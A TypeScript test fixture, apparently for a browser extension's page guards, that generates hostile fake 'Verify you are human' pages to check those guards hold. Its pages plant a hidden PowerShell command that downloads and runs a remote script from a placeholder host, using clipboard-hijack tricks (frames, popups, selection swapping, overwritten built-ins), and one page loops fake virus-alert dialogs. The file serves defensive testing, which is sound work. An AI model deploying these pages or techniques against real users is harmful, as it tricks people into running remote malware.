/**
 * Pages that attack the page guards as a page that knows them would (the attacks utils/guards/
 * must hold against, docs/security.md): each sets itself up before anything else of the page
 * runs, then, on the person's click, puts a command on the clipboard or loops dialogs. Every one
 * must still be stopped, and what the page can learn of the guards must name nothing.
 */

const COMMAND = 'powershell -w h -c "iex(irm https://check-human.example/a.ps1)"';

/** Each attack: its set-up, and what it does on the click. */
export const HOSTILE_GUARD_PAGES: Record<string, { setup: string; click: string }> = {
  // A clean writeText from a frame the page just made, on the page's own clipboard.
  'fresh-frame-writeText': {
    setup: '',
    click: `const f = document.createElement('iframe'); document.body.append(f);
f.contentWindow.Clipboard.prototype.writeText.call(navigator.clipboard, COMMAND).catch(() => {});`,
  },
  // execCommand('copy') run in a frame the page made (before the click: activation reaches a
  // same-origin frame that exists when the person clicks), on a textarea of the frame's.
  'frame-execCommand': {
    setup: `addEventListener('DOMContentLoaded', () => {
  const f = document.createElement('iframe'); f.id = 'copier'; f.style.cssText = 'position:absolute;left:-9999px'; document.body.append(f);
});`,
    click: `const d = document.getElementById('copier').contentDocument;
const t = d.createElement('textarea'); t.value = COMMAND; d.body.append(t); t.focus(); t.select(); d.execCommand('copy');`,
  },
  // A clean writeText from a frame the page makes, the frame removed at once (its guard's relay
  // goes with it).
  'frame-removed': {
    setup: '',
    click: `const f = document.createElement('iframe'); document.body.append(f);
f.contentWindow.Clipboard.prototype.writeText.call(navigator.clipboard, COMMAND).catch(() => {});
f.remove();`,
  },
  // The prototype's method put back from a fresh frame, then deleted (the textarea way left).
  'restore-and-delete': {
    setup: `const f = document.createElement('iframe'); document.documentElement.append(f);
Clipboard.prototype.writeText = f.contentWindow.Clipboard.prototype.writeText;
Document.prototype.execCommand = f.contentWindow.Document.prototype.execCommand;`,
    click: `navigator.clipboard.writeText(COMMAND).catch(() => {});
delete Clipboard.prototype.writeText; delete Clipboard.prototype.write;`,
  },
  // Every built-in the guards could lean on replaced with a liar (the item made first: Firefox's
  // Blob reads its parts through the array iterator the page replaces).
  'lying-builtins': {
    setup: `const ITEM = new ClipboardItem({ 'text/plain': new Blob([COMMAND], { type: 'text/plain' }) });
const exec = RegExp.prototype.exec;
RegExp.prototype.exec = function () { return null; };
RegExp.prototype.test = function () { return false; };
String.prototype.indexOf = function () { return -1; };
String.prototype.toLowerCase = function () { return ''; };
Array.prototype[Symbol.iterator] = function* () {};
Promise.prototype.then = function () { return this; };
Object.getOwnPropertyDescriptor = () => undefined;
Reflect.apply = () => undefined;
Function.prototype.call = function () {};
Function.prototype.apply = function () {};
MessagePort.prototype.postMessage = function () {};
window.postMessage = function () {};
EventTarget.prototype.addEventListener = function () {};
Element.prototype.getBoundingClientRect = () => new DOMRect(0, 0, 500, 500);
window.getComputedStyle = () => ({ getPropertyValue: () => 'visible', visibility: 'visible', opacity: '1' });`,
    click: 'navigator.clipboard.write([ITEM]).catch(() => {});',
  },
  // The hooks probed: their source, name, length, a wrong this; forged messages and events.
  'probes-and-forgeries': {
    setup: `const { port1, port2 } = new MessageChannel();
window.postMessage('', '*', [port2]);
window.dispatchEvent(new MessageEvent('message', { data: '', source: window, ports: [port1] }));
port1.postMessage('c0'); port1.postMessage('l0'); port1.postMessage({ c: 'x', h: 'writeText' });
window.dispatchEvent(new Event('fullscreenchange'));
document.dispatchEvent(new ClipboardEvent('copy'));
const write = navigator.clipboard.writeText;
const probe = {
  source: Function.prototype.toString.call(write),
  name: write.name,
  length: write.length,
  own: Object.getOwnPropertyNames(write).join(','),
  globals: Object.getOwnPropertyNames(window).filter((name) => /linkwise|guard|relay/i.test(name)).join(','),
};
// With a wrong this, the native's promise fails as the native's does.
const wrongThis = write.call({}, 'x').then(() => 'resolved', (error) => error.constructor.name);
addEventListener('DOMContentLoaded', async () => {
  probe.wrongThis = await wrongThis;
  document.getElementById('probe').textContent = JSON.stringify(probe);
});`,
    click: 'navigator.clipboard.writeText(COMMAND).catch(() => {});',
  },
  // A new window the page opened, its writeText on the page's clipboard.
  'popup-window': {
    setup: '',
    click: `const w = window.open('about:blank', '_blank', 'popup');
if (w) { w.Clipboard.prototype.writeText.call(navigator.clipboard, COMMAND).catch(() => {}); w.close(); }`,
  },
  // A popup of another site the page opens, which writes the command as it loads and closes
  // itself at once (before the clipboard judge can arrive): the opener is warned.
  'cross-origin-popup': {
    setup: '',
    click: `const other = location.hostname === 'localhost' ? '127.0.0.1' : 'localhost';
window.open(location.protocol + '//' + other + ':' + location.port + '/guards/hostile-popup.html', '_blank', 'popup');`,
  },
  // The person presses Ctrl+C on the page's code; the page swaps the selection for a hidden one.
  'selection-swap': {
    setup: `addEventListener('keydown', (event) => {
  if (!(event.ctrlKey || event.metaKey) || event.key !== 'c') return;
  const t = document.createElement('textarea'); t.value = COMMAND; t.style.cssText = 'position:fixed;left:-9999px;top:0';
  document.body.append(t); t.focus(); t.select();
}, true);`,
    click: '',
  },
  // Dialogs looped through a fresh frame's alert.
  'frame-dialog-loop': {
    setup: '',
    click: `const f = document.createElement('iframe'); document.body.append(f);
const loop = f.contentWindow.alert; for (;;) loop('Virus detected! Call support.');`,
  },
};

export function hostileGuardPage(name: string): string | null {
  const page = HOSTILE_GUARD_PAGES[name];
  if (!page) return null;
  const command = JSON.stringify(COMMAND);
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Verify</title><script>const COMMAND = ${command};
${page.setup}</script></head><body style="font:16px system-ui;padding:24px"><h1>Verify you are human</h1>
<p>Copy this code: <span id="code">XJ4-99-QA</span></p><p id="probe"></p><button id="verify">Verify</button>
<script>document.getElementById('verify').onclick = () => { ${page.click} };</script></body></html>`;
}

/** The popup `cross-origin-popup` opens: it writes the command as it loads, and closes itself. */
export function hostilePopup(): string {
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Verifying…</title></head>
<body><p>Verifying…</p><script>opener = null;
navigator.clipboard.writeText(${JSON.stringify(COMMAND)}).catch(() => {});
close();</script></body></html>`;
}

export const HOSTILE_COMMAND = COMMAND;
